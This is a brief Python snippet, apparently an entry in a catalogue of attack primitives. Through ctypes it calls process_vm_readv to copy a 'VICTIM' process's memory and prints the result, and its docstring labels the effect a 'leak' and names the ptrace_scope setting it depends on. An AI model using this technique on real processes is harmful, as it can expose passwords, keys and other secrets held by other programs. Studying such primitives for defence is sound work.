"""
goal: read another process's memory with one call
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)
found = ctypes.create_string_buffer(LENGTH)
here = struct.pack("QQ", ctypes.addressof(found), LENGTH)
there = struct.pack("QQ", ADDRESS, LENGTH)
libc.process_vm_readv(VICTIM, here, 1, there, 1, 0)
print(found.raw)
